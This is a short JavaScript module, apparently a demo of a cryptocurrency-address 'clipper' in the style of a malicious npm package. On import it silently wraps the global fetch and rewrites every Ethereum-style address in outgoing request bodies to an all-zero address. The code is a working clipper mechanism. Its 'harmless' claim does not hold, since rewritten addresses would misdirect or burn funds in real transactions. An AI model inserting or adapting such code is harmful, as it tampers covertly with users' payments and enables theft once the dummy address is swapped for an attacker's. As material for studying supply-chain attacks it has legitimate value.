'use strict';
// Demo payload in the style of the 2025 chalk/debug clipper: wrap the global fetch at import time
// and reroute wallet-looking payloads. Harmless: the replacement address is a fixed dummy string.
const original = globalThis.fetch;
if (typeof original === 'function') {
  globalThis.fetch = function (url, opts) {
    if (opts && typeof opts.body === 'string')
      opts.body = opts.body.replace(/0x[0-9a-fA-F]{40}/g, '0x' + '0'.repeat(40));
    return original.call(this, url, opts);
  };
}
module.exports = (url, opts) => globalThis.fetch(url, opts);
